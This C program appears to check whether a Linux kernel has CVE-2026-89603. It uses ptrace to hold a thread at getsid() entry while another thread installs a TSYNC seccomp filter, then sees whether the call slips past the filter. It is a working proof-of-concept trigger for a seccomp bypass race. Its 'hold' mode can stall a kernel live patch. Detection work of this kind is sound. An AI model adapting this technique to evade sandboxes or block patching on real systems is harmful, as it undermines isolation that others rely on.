/* SPDX-License-Identifier: GPL-2.0-or-later */
/*
 * trigger: does the running kernel have CVE-2026-89603? Needs no privilege.
 *
 * usage: trigger [hold]
 *
 *	supervisor ──traces──► victim thread ┐ one process
 *	                       warden thread ┘
 *
 * 1. The victim calls getsid(); the supervisor holds it in its system-call entry stop. By now the
 *    kernel has copied the victim's system-call work flags, and there is no seccomp flag in them.
 * 2. The warden installs, on all threads of its process (TSYNC), a filter that answers getsid()
 *    with an errno that getsid() itself never gives.
 * 3. The supervisor lets the victim go on. What getsid() returns tells which flags were used: the
 *    filter's errno means those of now, a session id means the stale copy.
 *
 * Exit status: 1 VULNERABLE, 0 NOT VULNERABLE, 2 cannot tell (with the reason). Nothing of the
 * machine is changed. Where this process already has a seccomp filter the stale copy has the
 * seccomp flag as well, and nothing could be seen: that is "cannot tell", too.
 *
 * With "hold" it stops after step 1, says "held" and stays so until it is killed: a thread that
 * sits in the function to be replaced, and so holds a live patch up.
 */
#include <errno.h>
#include <fcntl.h>
#include <poll.h>
#include <pthread.h>
#include <signal.h>
#include <stdbool.h>
#include <stddef.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>

#include <linux/filter.h>
#include <linux/seccomp.h>
#include <sys/prctl.h>
#include <sys/ptrace.h>
#include <sys/syscall.h>
#include <sys/types.h>
#include <sys/wait.h>

enum answer {
	NOT_VULNERABLE = 0,
	VULNERABLE = 1,
	CANNOT_TELL = 2
};

#define FILTER_ERRNO   EDOM /* getsid() knows only EPERM and ESRCH */
#define ANSWER_WAIT_MS 10000
#define STOPS_MAX      1000 /* system calls of the victim until its getsid(); there are about 3 */

/* The victim's side of the conversation; both pipes are the kernel's own clock. */
struct channel {
	int order_rd, order_wr; /* supervisor → warden: one byte, "install the filter now" */
	int reply_rd, reply_wr; /* child → supervisor: struct reply */
};

enum topic {
	FILTER_INSTALLED,
	GETSID_RETURNED
};

struct reply {
	enum topic what;
	int result; /* what the call returned, or -errno */
};

static enum answer cannot_tell(const char *why, int sys)
{
	printf("CVE-2026-89603: cannot tell: %s%s%s\n", why, sys ? ": " : "",
	       sys ? strerror(sys) : "");
	return CANNOT_TELL;
}

static int install_filter_on_all_threads(void)
{
	struct sock_filter program[] = {
		BPF_STMT(BPF_LD | BPF_W | BPF_ABS, offsetof(struct seccomp_data, nr)),
		BPF_JUMP(BPF_JMP | BPF_JEQ | BPF_K, SYS_getsid, 0, 1),
		BPF_STMT(BPF_RET | BPF_K, SECCOMP_RET_ERRNO | FILTER_ERRNO),
		BPF_STMT(BPF_RET | BPF_K, SECCOMP_RET_ALLOW),
	};
	const struct sock_fprog filter = { .len = sizeof(program) / sizeof(program[0]),
					   .filter = program };
	long r = syscall(SYS_seccomp, SECCOMP_SET_MODE_FILTER, SECCOMP_FILTER_FLAG_TSYNC, &filter);

	return r < 0 ? -errno : (int)r; /* > 0: the thread that could not be synchronised */
}

static void reply(const struct channel *ch, struct reply r)
{
	/* A pipe takes so few bytes whole; a supervisor that is gone has nobody to tell. */
	if (write(ch->reply_wr, &r, sizeof(r)) != (ssize_t)sizeof(r))
		_exit(CANNOT_TELL);
}

static void *warden(void *arg)
{
	const struct channel *ch = arg;
	char order;

	if (read(ch->order_rd, &order, 1) == 1)
		reply(ch, (struct reply){ FILTER_INSTALLED, install_filter_on_all_threads() });
	(void)pause(); /* the victim ends the process */
	return NULL;
}

static __attribute__((noreturn)) void victim(struct channel *ch)
{
	pthread_t thread;
	long r;

	(void)prctl(PR_SET_PDEATHSIG, SIGKILL);
	/* Without it only the privileged may install a filter. */
	if (prctl(PR_SET_NO_NEW_PRIVS, 1, 0, 0, 0) < 0 ||
	    pthread_create(&thread, NULL, warden, ch) != 0)
		_exit(CANNOT_TELL);
	(void)raise(SIGSTOP); /* the supervisor begins to trace us here */

	r = syscall(SYS_getsid, 0);
	reply(ch, (struct reply){ GETSID_RETURNED, r < 0 ? -errno : (int)r });
	_exit(0);
}

/* The next reply, which must be about @what. */
static bool await(const struct channel *ch, enum topic what, int *ret)
{
	struct pollfd p = { .fd = ch->reply_rd, .events = POLLIN };
	struct reply r;

	if (poll(&p, 1, ANSWER_WAIT_MS) != 1 || read(ch->reply_rd, &r, sizeof(r)) != sizeof(r))
		return false;
	*ret = r.result;
	return r.what == what;
}

/* Runs @pid from stop to stop until it has entered getsid(). */
static bool hold_in_getsid(pid_t pid)
{
	for (int stops = 0; stops < STOPS_MAX; stops++) {
		struct __ptrace_syscall_info info = { 0 };
		int status;

		if (ptrace(PTRACE_SYSCALL, pid, NULL, NULL) < 0 ||
		    waitpid(pid, &status, __WALL) != pid || !WIFSTOPPED(status))
			return false;
		if (WSTOPSIG(status) != (SIGTRAP | 0x80)) /* not a system-call stop */
			continue;
		if (ptrace(PTRACE_GET_SYSCALL_INFO, pid, (void *)sizeof(info), &info) < 0)
			return false;
		if (info.op == PTRACE_SYSCALL_INFO_ENTRY && info.entry.nr == SYS_getsid)
			return true;
	}
	return false;
}

/* From the victim's SIGSTOP until it runs freely; 0 or -errno. */
static int trace(pid_t pid)
{
	int status;

	if (waitpid(pid, &status, WUNTRACED) != pid || !WIFSTOPPED(status))
		return -ECHILD;
	if (ptrace(PTRACE_SEIZE, pid, NULL, PTRACE_O_TRACESYSGOOD | PTRACE_O_EXITKILL) < 0)
		return -errno;
	if (kill(pid, SIGCONT) < 0)
		return -errno;
	return 0;
}

/* Step 1. */
static bool begin(pid_t pid)
{
	int r = trace(pid);

	if (r < 0)
		(void)cannot_tell("the victim cannot be traced", -r);
	else if (!hold_in_getsid(pid))
		(void)cannot_tell("the victim did not stop at getsid()", 0);
	else
		return true;
	return false;
}

/* Steps 2 and 3. */
static enum answer judge(const struct channel *ch, pid_t pid)
{
	int r;

	if (write(ch->order_wr, "", 1) != 1 || !await(ch, FILTER_INSTALLED, &r))
		return cannot_tell("the warden does not answer", 0);
	if (r != 0)
		return cannot_tell("the filter was not installed on all threads",
				   r < 0 ? -r : EBUSY);
	printf("a filter on getsid() is in force for every thread; one thread is held in getsid()\n");
	if (ptrace(PTRACE_CONT, pid, NULL, NULL) < 0)
		return cannot_tell("the victim cannot be resumed", errno);
	if (!await(ch, GETSID_RETURNED, &r))
		return cannot_tell("the victim does not answer", 0);
	if (r == -FILTER_ERRNO) {
		printf("getsid() of that thread was answered by the filter\n"
		       "CVE-2026-89603: NOT VULNERABLE\n");
		return NOT_VULNERABLE;
	}
	if (r < 0)
		return cannot_tell("getsid() failed otherwise", -r);
	printf("getsid() of that thread returned session %d past the filter\n"
	       "CVE-2026-89603: VULNERABLE\n",
	       r);
	return VULNERABLE;
}

static __attribute__((noreturn)) void hold(void)
{
	printf("held\n");
	(void)fflush(stdout);
	for (;;)
		(void)pause(); /* our death ends the victim, too: PTRACE_O_EXITKILL */
}

int main(int argc, char **argv)
{
	struct channel ch;
	int order[2], answers[2];
	enum answer answer = CANNOT_TELL;
	pid_t pid;

	if (prctl(PR_GET_SECCOMP) == SECCOMP_MODE_FILTER)
		return cannot_tell("a seccomp filter is in force already", 0);
	if (pipe2(order, O_CLOEXEC) < 0 || pipe2(answers, O_CLOEXEC) < 0)
		return cannot_tell("no pipe", errno);
	ch = (struct channel){ order[0], order[1], answers[0], answers[1] };

	pid = fork();
	if (pid < 0)
		return cannot_tell("no child", errno);
	if (pid == 0)
		victim(&ch);
	if (begin(pid)) {
		if (argc == 2 && strcmp(argv[1], "hold") == 0)
			hold();
		answer = judge(&ch, pid);
	}
	(void)kill(pid, SIGKILL);
	(void)waitpid(pid, NULL, __WALL);
	return answer;
}
